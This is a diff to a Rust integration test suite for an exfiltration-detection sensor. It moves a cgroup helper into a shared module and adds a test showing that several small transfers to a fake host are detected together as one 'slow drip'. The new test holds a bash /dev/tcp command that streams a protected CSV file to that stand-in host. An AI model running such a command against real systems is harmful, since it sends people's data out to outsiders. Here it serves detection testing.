@@ -17,59 +17,12 @@ use std::{
 };
 
 use mnsensor_tests::{
-    ChildGuard, Sensor, TempDir, get_str, get_u64, is, path_str, scaled, show, test_pid, users::test_users,
+    ChildGuard, Sensor, TempDir, cgroup::Cgroup, get_str, get_u64, is, path_str, scaled, show, test_pid,
+    users::test_users,
 };
 use serde_json::Value;
 
 static NEXT: AtomicU32 = AtomicU32::new(0);
-
-/// A cgroup v2 child the senders run in.
-struct Cgroup {
-    path: PathBuf,
-}
-
-impl Cgroup {
-    fn new() -> Self {
-        let root = if Path::new("/sys/fs/cgroup/cgroup.procs").exists() {
-            PathBuf::from("/sys/fs/cgroup")
-        } else {
-            PathBuf::from("/sys/fs/cgroup/unified")
-        };
-        let path =
-            root.join(format!("mnsensor-test.{}.{}", test_pid(), NEXT.fetch_add(1, Ordering::Relaxed)));
-        fs::create_dir(&path).unwrap_or_else(|e| panic!("mkdir {}: {e}", path.display()));
-        Self { path }
-    }
-
-    /// Runs `script` with sh inside this cgroup and returns its exit code. Its output goes
-    /// to /dev/null: reading what a tainted process wrote would taint this test process (and
-    /// every later child of it), which is the point of the sensor.
-    fn run(&self, script: &str) -> i32 {
-        let procs = self.path.join("cgroup.procs");
-        let status = Command::new("sh")
-            .arg("-c")
-            .arg(format!("echo $$ > {} && {script}", path_str(&procs)))
-            .stdin(Stdio::null())
-            .stdout(Stdio::null())
-            .stderr(Stdio::null())
-            .status()
-            .unwrap_or_else(|e| panic!("running {script}: {e}"));
-        eprintln!("{script}: {status:?}");
-        status.code().unwrap_or(-1)
-    }
-}
-
-impl Drop for Cgroup {
-    fn drop(&mut self) {
-        for _ in 0..50 {
-            if fs::remove_dir(&self.path).is_ok() {
-                return;
-            }
-            thread::sleep(Duration::from_millis(100));
-        }
-        eprintln!("warning: cgroup {} not removed", self.path.display());
-    }
-}
 
 /// The fake external host: a namespace, a veth pair and a TCP sink listening on `ports`.
 struct FakeHost {
@@ -628,5 +581,43 @@ fn bulk_read_above_threshold_is_detected_once() {
     thread::sleep(scaled(Duration::from_secs(2)));
     let n = s.sensor.matching(|e| is(e, "detection.bulk_read")).len();
     assert_eq!(n, 1, "one detection per episode");
+    s.sensor.stop();
+}
+
+#[test]
+fn slow_drip_adds_up_split_connections_once() {
+    if mnsensor_tests::in_vm() {
+        mnsensor_tests::skip!("the busybox guest's `ip` cannot make the test's network namespace");
+    }
+    let cg = Cgroup::new();
+    let host = FakeHost::new(&[9301]);
+    // Each send stays far below the exfiltration threshold; three of them exceed the budget.
+    let budget = 2 * SIZE as u64 + SIZE as u64 / 2;
+    let mut s = setup(&cg, 1, &format!("    min_bytes: 1000000\n    slow_drip: {{bytes: {budget}}}\n"));
+    let file = s.protected.join("mynumber-0.csv");
+    let send = |n: usize| {
+        let code =
+            cg.run(&format!("bash -c 'exec 3<>/dev/tcp/{}/9301; cat {} >&3'", host.ip, path_str(&file)));
+        assert_eq!(code, 0);
+        host.received_n(9301, n).iter().sum::<u64>()
+    };
+    let drip = |e: &Value| is(e, "detection.slow_drip");
+    send(1);
+    let below = send(2);
+    assert!(below <= budget);
+    thread::sleep(scaled(Duration::from_secs(3)));
+    s.sensor.assert_none("slow drip below the budget", drip);
+    let total = send(3);
+    assert!(total > budget);
+    let d = s.sensor.wait_for("slow drip over the budget", drip);
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), total, "{}", show(&d));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
+    assert_eq!(get_u64(&d, "destination.port"), 9301, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.egress.processes"), 3, "three senders: {}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.egress.budget_bytes"), budget, "{}", show(&d));
+    send(4);
+    thread::sleep(scaled(Duration::from_secs(3)));
+    assert_eq!(s.sensor.matching(drip).len(), 1, "one detection per episode");
+    s.sensor.assert_none("exfiltration below its threshold", exfil_to(9301));
     s.sensor.stop();
 }
